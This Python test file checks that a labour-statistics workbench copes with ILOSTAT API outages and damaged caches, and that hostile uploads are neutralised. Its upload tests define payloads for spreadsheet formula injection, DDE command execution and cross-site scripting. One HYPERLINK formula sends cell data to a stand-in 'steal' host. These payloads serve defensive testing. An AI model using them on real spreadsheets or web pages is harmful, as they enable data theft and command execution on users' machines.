"""Faults in the middle of a participant's session, and what the workbench does about them.

- **ILOSTAT** (a real HTTP server on this machine standing in for ILOSTAT's API, set by
  ``EVIDENCEKIT_ILOSTAT_URL``, answering from the embedded snapshot): the participant works online, saves a
  chart to the board; then the API becomes unreachable, slow beyond the deadline
  (``EVIDENCEKIT_ILOSTAT_DEADLINE``), answers 500 or 429, or cuts its body short. Their next choice still
  shows a chart from the local copy, says in plain words what happened and that the figures are the offline
  snapshot's, shows no traceback, and their board and progress are still there. (The client's own handling
  of each fault is tested in ``tests/ilostat``; here it is the page.)
- **The ILOSTAT cache** damaged under a running app, and a process killed (SIGKILL) in the middle of writing
  a cache entry: the app still answers, from the snapshot or from the entry written before.
- **Uploads** to the Microdata workbench that are too large for the memory check, or hostile (a formula or
  HTML in a column name or a value label): a plain message, nothing rendered as HTML, exports formula-safe.
"""
from __future__ import annotations

import io
import json
import os
import signal
import subprocess
import sys
import threading
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pandas as pd
import pytest

import evidencekit.ilostat as ilostat
from evidencekit.ilostat import http as ek_http
from evidencekit.store import open_store

from .apphelp import new_app, no_problem, submit, texts

AREAS = "m1-shock-and-recovery-areas"


# -- a stand-in for ILOSTAT ------------------------------------------------------------------------------------
class FakeIlostat:
    """ILOSTAT's rplumber API (catalogue and data answers, as the live service writes them) on a loopback port,
    answering from the embedded snapshot. ``mode`` breaks it: ``ok``, ``slow`` (every answer held back
    ``slow_for`` seconds), ``500``, ``429`` (with ``Retry-After: 600``), ``truncated`` (data answers cut in the
    middle of a row, the connection then closed); :meth:`close` makes it unreachable. ``seen``: the paths asked."""

    def __init__(self) -> None:
        from evidencekit.ilostat import Client

        self.local = Client(offline=True)
        self.mode = "ok"
        self.slow_for = 8.0
        self.seen: list[str] = []
        self.stop = threading.Event()
        fake = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 (http.server's name)
                fake.seen.append(self.path)
                fake.answer(self)

            def log_message(self, *args):
                pass

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.base = f"http://127.0.0.1:{self.httpd.server_port}"
        self.thread = threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        self.thread.start()

    def body(self, path: str) -> tuple[int, str, bytes]:
        url = urllib.parse.urlsplit(path)
        q = dict(urllib.parse.parse_qsl(url.query))
        if url.path == "/metadata/toc/indicator/":
            toc = self.local.toc()
            records = [{"id": r.id, "indicator": r.indicator, "indicator.label": r.label, "freq": r.freq,
                        "data.start": int(r.data_start), "data.end": int(r.data_end),
                        "last.update": "/".join(reversed(str(r.last_update)[:10].split("-"))) + " 00:00:00",
                        "n.records": int(r.n_records) if r.n_records == r.n_records else 0}
                       for r in toc.itertuples() if str(r.last_update)[:2] in ("19", "20")]
            return 200, "application/json", json.dumps(records).encode()
        if url.path == "/data/indicator/":
            filters = {k: q[k].split("+") for k in ("ref_area", "sex", "classif1", "classif2", "source") if k in q}
            df = self.local.get(q["id"], start=q.get("timefrom"), end=q.get("timeto"), **filters)
            df = df.drop(columns=[c for c in df.columns if c == "period"])
            return 200, "application/octet-stream", ("\ufeff" + df.to_csv(index=False)).encode()
        if url.path == "/metadata/toc/ref_area/":
            areas = self.local.areas()
            records = [{"id": f"{r['ref_area']}_A", "ref_area": r["ref_area"], "ref_area.label": r["ref_area.label"],
                        "freq": "A", **{k: f"ILO_GEO_{r[k]}" for k in ("ilo_region", "ilo_subregion_broad",
                                                                      "ilo_subregion_detailed") if pd.notna(r[k])},
                        **{f"{k}.label": r[f"{k}.label"] for k in ("ilo_region", "ilo_subregion_broad",
                                                                   "ilo_subregion_detailed") if pd.notna(r[k])}}
                       for r in areas.to_dict("records") if not r["is_aggregate"]]
            return 200, "application/json", json.dumps(records).encode()
        if url.path == "/metadata/dic/":
            df = self.local.dictionary(q["var"])
            return 200, "application/octet-stream", ("\ufeff" + df.to_csv(index=False)).encode()
        return 404, "text/plain", b"not found"

    def answer(self, h: BaseHTTPRequestHandler) -> None:
        if self.mode == "slow":
            self.stop.wait(self.slow_for)
        if self.mode == "500":
            return self._send(h, 500, "text/plain", b"Internal Server Error")
        if self.mode == "429":
            return self._send(h, 429, "text/plain", b"Too Many Requests", {"Retry-After": "600"})
        status, ctype, body = self.body(h.path)
        if self.mode == "truncated" and h.path.startswith("/data/"):
            h.send_response(status)
            h.send_header("Content-Type", ctype)
            h.send_header("Content-Length", str(len(body)))
            h.end_headers()
            h.wfile.write(body[: len(body) // 2])   # half of it, cut in the middle of a row
            h.wfile.flush()
            h.close_connection = True
            return None
        return self._send(h, status, ctype, body)

    @staticmethod
    def _send(h, status: int, ctype: str, body: bytes, headers: dict | None = None) -> None:
        h.send_response(status)
        h.send_header("Content-Type", ctype)
        for k, v in (headers or {}).items():
            h.send_header(k, v)
        h.send_header("Content-Length", str(len(body)))
        h.end_headers()
        h.wfile.write(body)

    def close(self) -> None:
        self.stop.set()
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def online(monkeypatch):
    """The app online, against a :class:`FakeIlostat` (a short deadline, no remembered failures)."""
    monkeypatch.setenv("EVIDENCEKIT_OFFLINE", "1")  # the stand-in reads the snapshot with the network off …
    fake = FakeIlostat()
    monkeypatch.delenv("EVIDENCEKIT_OFFLINE")      # … and the app goes online, to it
    monkeypatch.setenv("EVIDENCEKIT_ILOSTAT_URL", fake.base)
    monkeypatch.setenv("EVIDENCEKIT_ILOSTAT_DEADLINE", "6")
    ek_http._DOWN_UNTIL.clear()
    ilostat._default = None
    yield fake
    fake.close()
    ek_http._DOWN_UNTIL.clear()
    ilostat._default = None


def _source_line(at) -> str:
    lines = [str(c.value) for c in at.caption if str(c.value).startswith("Source: ILOSTAT")]
    assert lines, "the chart's source line is shown"
    return lines[0]


def _board_ids() -> list[str]:
    return [r["payload"]["evidence"]["id"] for r in open_store().participant("local").board()]


# What the page says about each fault (the library's words, shown as a note under the chart).
SAID = {"unreachable": "could not be reached",
        "slow": "did not answer in full within the 3 s deadline",
        "500": "500",
        "429": "asked to wait 30 s before trying again",
        "truncated": "broke off its answer before the end"}


@pytest.mark.parametrize("fault", list(SAID))
def test_ilostat_failing_mid_session_leaves_the_page_working_on_the_snapshot_and_the_work_in_place(online, fault,
                                                                                                    monkeypatch):
    # 3 s: slow answers (8 s) are cut off; 6 s: room for the client's retries (1 s, then 2 s) of a 500
    monkeypatch.setenv("EVIDENCEKIT_ILOSTAT_DEADLINE", "3" if fault == "slow" else "6")
    at = new_app(module=1, step=2)
    at.run()
    no_problem(at)
    assert "offline snapshot" not in _source_line(at), (online.seen, texts(at)[-1500:])  # online: live figures
    assert any("/data/indicator/" in p for p in online.seen)
    button = next(b for b in at.button if b.label == "Add to my evidence board")
    submit(at, button.form_id)
    assert any(s.value.startswith("Saved to your evidence board as E1.") for s in at.success)
    progress = open_store().participant("local").progress(1)
    assert progress

    if fault == "unreachable":
        online.close()
    else:
        online.mode = fault
    asked = len(online.seen)
    at.multiselect(key=AREAS).set_value(["KHM", "IDN", "MYS"]).run()

    no_problem(at)
    page = texts(at)
    assert "Traceback" not in page
    assert at.image, "a chart is still drawn"
    line = _source_line(at)
    assert "offline snapshot" in line and "STALE" in line, line
    assert SAID[fault] in page, page
    shown = at.dataframe[0].value
    assert set(shown["Area"]) == {"Cambodia", "Indonesia", "Malaysia"}   # the new choice, from the snapshot
    if fault != "unreachable":
        assert len(online.seen) > asked                     # the fault was met, not skipped
    assert _board_ids() == ["E1"]                           # nothing of the participant's is lost
    assert open_store().participant("local").progress(1) == progress
    at.switch_page("app_pages/board.py").run()
    no_problem(at)
    assert at.radio(key="board-open").options == ["**E1** · Chart · from module 1"] and at.image  # listed, open


# -- the ILOSTAT cache under a running app ---------------------------------------------------------------------
def _cached_entries(dataset: str = "SDG_0852_SEX_AGE_RT_A") -> tuple[object, list[dict]]:
    """The app's ILOSTAT disk cache and the records of its entries for ``dataset`` (written by the live answers:
    the step's figures, and what the indicator holds for its areas), the step's own first."""
    from evidencekit.ilostat.cache import DataCache

    cache = DataCache(os.environ["EVIDENCEKIT_CACHE_DIR"])
    records = [r for r in cache.records() if r.get("dataset") == dataset]
    assert records, "the live answer was kept in the cache"
    return cache, sorted(records, key=lambda r: not (r.get("query") or {}).get("sex"))


def _step_areas(at) -> set[str]:
    return set(at.dataframe[0].value["Area"])


def _fresh_session_on_the_local_copy(online):
    """A new tab, with ILOSTAT failing (500) and Streamlit's caches emptied: the figures must come from the disk
    cache or the snapshot."""
    from .conftest import clear_caches

    online.mode = "500"
    clear_caches()
    at = new_app(module=1, step=2)
    at.run()
    return at


@pytest.mark.parametrize("damage", ["parquet cut in half", "parquet replaced by garbage", "record not JSON"])
def test_a_damaged_cache_file_is_set_aside_and_the_page_answers_from_the_snapshot(online, damage):
    at = new_app(module=1, step=2)
    at.run()
    no_problem(at)
    live_areas = _step_areas(at)
    cache, records = _cached_entries()
    for record in records:   # every copy of the dataset, so that none can stand in for the damaged one
        parquet, meta = cache.folder / record["file"], cache.folder / f"{record['key']}.json"
        if damage == "parquet cut in half":
            parquet.write_bytes(parquet.read_bytes()[: parquet.stat().st_size // 2])
        elif damage == "parquet replaced by garbage":
            parquet.write_bytes(os.urandom(parquet.stat().st_size))
        else:
            meta.write_text("{not json", encoding="utf-8")

    at = _fresh_session_on_the_local_copy(online)
    no_problem(at)
    assert at.image and _step_areas(at) == live_areas
    line = _source_line(at)
    assert "offline snapshot" in line, line
    page = texts(at)
    assert "kept failing (HTTP 500)" in page and "Traceback" not in page, page
    for record in records:   # each damaged copy was set aside (and said, in the library's warning), not read
        assert not (cache.folder / f"{record['key']}.json").exists()


WRITER = """
import os, sys, time
from evidencekit.ilostat.cache import DataCache
cache = DataCache(sys.argv[1])
key, pause_at = sys.argv[2], int(sys.argv[3])
df, record = cache.get(key)
calls = 0
fsync = os.fsync
def paused_fsync(fd):   # a file's bytes are written, not yet renamed into place: where the writer is killed
    global calls
    fsync(fd)
    calls += 1
    if calls == pause_at:
        print("paused", flush=True)
        time.sleep(600)
os.fsync = paused_fsync
cache.put(key, df.assign(obs_value=df["obs_value"] + 1.0), {**record, "retrieved_at": "2026-12-02T09:00:00Z"})
print("finished", flush=True)
"""
# os.fsync calls of one cache write: 1 the new Parquet file, 2 its folder (after the rename), 3 the record, 4 its folder
KILLED_AT = {"while the new Parquet file is written": 1, "between the new Parquet file and its record": 3}


@pytest.mark.parametrize("moment", list(KILLED_AT))
def test_a_process_killed_while_writing_the_cache_leaves_the_entry_the_app_reads(online, moment):
    """A second process (``evidencekit`` in another terminal, a second app) writing a newer copy of the entry the
    app uses is killed with SIGKILL in the middle of the write; the app then reads the entry as it was before
    (never half of the new one, never an error)."""
    at = new_app(module=1, step=2)
    at.run()
    no_problem(at)
    live = at.dataframe[0].value
    cache, (record, *_) = _cached_entries()
    proc = subprocess.Popen([sys.executable, "-c", WRITER, str(cache.root), record["key"], str(KILLED_AT[moment])],
                            stdout=subprocess.PIPE, text=True, env=os.environ.copy())
    try:
        assert proc.stdout.readline().strip() == "paused"   # in the middle of its write
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait()
    assert proc.returncode == -signal.SIGKILL
    assert [p for p in cache.folder.iterdir() if p.suffix == ".tmp"]   # it left a half-done write behind

    at = _fresh_session_on_the_local_copy(online)
    no_problem(at)
    assert "Traceback" not in texts(at) and at.image
    line = _source_line(at)
    assert "local cache" in line, line                     # the entry as it was: read whole, not set aside
    pd.testing.assert_frame_equal(at.dataframe[0].value.reset_index(drop=True), live.reset_index(drop=True))


# -- uploads to the Microdata workbench -------------------------------------------------------------------------
HOSTILE_COLUMN = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click for your results")'
SCRIPT_COLUMN = "<script>alert('x')</script>"
HOSTILE_LABELS = {1: '=cmd|" /C calc"!A0', 2: "<img src=x onerror=alert(1)>", 3: "@SUM(1+1)*cmd|' /C calc'!A0"}


def _own_file(at, name: str, content: bytes):
    at.switch_page("app_pages/microdata.py").run()
    at.radio(key="md-source").set_value("own").run()
    at.file_uploader(key="md-upload").set_value((name, content, "application/octet-stream")).run()
    return at


def test_a_file_too_large_for_the_memory_check_is_refused_in_plain_words_before_it_is_read(monkeypatch):
    from evidencekit.microdata.synthetic import load_sample

    monkeypatch.setenv("EVIDENCEKIT_MEMORY_LIMIT", "2MB")
    buf = io.BytesIO()
    load_sample().data.to_csv(buf, index=False)   # 35 061 records: about 9 MB once read
    at = new_app()
    at.run()
    at = _own_file(at, "national-lfs.csv", buf.getvalue())
    assert not at.exception
    errors = [e.value for e in at.error]
    assert any("national-lfs.csv" in e and "memory" in e.lower() for e in errors), errors
    assert any(i.value.startswith("What to do:") for i in at.info)
    assert not any("evidencekit-upload-" in e for e in errors), "the private upload folder is not shown"
    assert "Traceback" not in texts(at)
    assert not [b for b in at.button if b.key == "md-read"]   # nothing to read: the file was refused at once


def _hostile_dta() -> bytes:
    """The SYNTHETIC sample as a Stata file with hostile names and labels: a formula and a script as column
    names, formulas and HTML as value labels of the sex column, HTML as a variable label."""
    import tempfile
    from pathlib import Path

    from evidencekit.microdata.synthetic import load_sample

    df = load_sample().data.copy()
    df = df[[c for c in df.columns if c != "synthetic"]]
    df["grp"] = (df["ilo_key"].astype("int64") % 3 + 1).astype("int8")
    df["htm"] = (df["ilo_key"].astype("int64") % 2 + 1).astype("int8")
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "hostile.dta"
        df.to_stata(path, write_index=False, version=118, value_labels={"grp": HOSTILE_LABELS},
                    variable_labels={"grp": HOSTILE_COLUMN[:80], "htm": SCRIPT_COLUMN})
        return path.read_bytes()


def test_hostile_names_and_labels_are_shown_as_text_and_exported_formula_safe():
    """Stata allows no '=' or '<' in a column's name, but its labels may hold anything: a formula as the variable
    label of one column, HTML as another's, formulas and HTML as value labels. Nothing of it is rendered as HTML
    or runs as a formula in the CSV or Excel download."""
    import openpyxl

    from evidencekit import indicators, microdata
    from ui import files

    at = new_app()
    at.run()
    at = _own_file(at, "hostile.dta", _hostile_dta())
    no_problem(at)
    at.button(key="md-read").click().run()
    no_problem(at)
    at.multiselect(key="md-by").set_value(["grp"]).run()
    no_problem(at)
    page = texts(at)
    assert "Traceback" not in page
    # every label reached the page as text: in a table or in plain (escaped) markdown, never as HTML
    shown = at.dataframe[0].value.astype(str).to_string()
    assert all(label in shown for label in HOSTILE_LABELS.values()), shown
    for el in at.markdown:
        assert not el.proto.allow_html, el.value
    assert not at.get("html")

    # the figures the app downloads (its own writer, evidencekit.export) carry the labels as inert text
    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "hostile.dta"
        path.write_bytes(_hostile_dta())
        survey = microdata.read(path, weight="ilo_wgt", strata="strata", psu="psu")
    est = indicators.estimate(survey, "informal_employment_rate", by="grp")
    assert set(HOSTILE_LABELS.values()) <= set(est.astype(str).stack())   # the labels are in the figures
    import csv

    text = files.frame_bytes(est, ".csv").decode("utf-8-sig")
    rows = list(csv.reader(line for line in text.splitlines() if not line.startswith("#")))
    cells = [c for row in rows for c in row]
    assert {f"'{v}" if v[0] in "=@" else v for v in HOSTILE_LABELS.values()} <= set(cells), rows
    assert not [c for c in cells if c[:1] in ("=", "+", "@")], "a cell would run as a formula"
    book = openpyxl.load_workbook(io.BytesIO(files.frame_bytes(est, ".xlsx")))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not (isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "@")), cell.value


def test_hostile_column_names_in_a_csv_are_shown_as_text_and_exported_formula_safe():
    """A CSV's header may hold anything: a formula and a script as column names, used as a breakdown."""
    import csv

    from evidencekit import indicators, microdata
    from evidencekit.microdata.synthetic import load_sample
    from ui import files

    df = load_sample().data.drop(columns=["synthetic"])
    df[HOSTILE_COLUMN] = df["ilo_key"].astype("int64") % 3 + 1
    df[SCRIPT_COLUMN] = df["ilo_key"].astype("int64") % 2 + 1
    buf = io.BytesIO()
    df.to_csv(buf, index=False)
    at = new_app()
    at.run()
    at = _own_file(at, "hostile.csv", buf.getvalue())
    no_problem(at)
    at.button(key="md-read").click().run()
    no_problem(at)
    assert HOSTILE_COLUMN in at.multiselect(key="md-by").options
    at.multiselect(key="md-by").set_value([HOSTILE_COLUMN, SCRIPT_COLUMN]).run()
    no_problem(at)
    assert "Traceback" not in texts(at)
    for el in at.markdown:
        assert not el.proto.allow_html, el.value
    assert not at.get("html")

    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "hostile.csv"
        path.write_bytes(buf.getvalue())
        survey = microdata.read(path, weight="ilo_wgt", strata="strata", psu="psu")
    est = indicators.estimate(survey, "informal_employment_rate", by=[HOSTILE_COLUMN, SCRIPT_COLUMN])
    assert HOSTILE_COLUMN in est.columns
    text = files.frame_bytes(est, ".csv").decode("utf-8-sig")
    header = next(csv.reader([line for line in text.splitlines() if not line.startswith("#")][:1]))
    assert f"'{HOSTILE_COLUMN}" in header and SCRIPT_COLUMN in header, header
    assert not [c for c in header if c[:1] in ("=", "+", "@")]
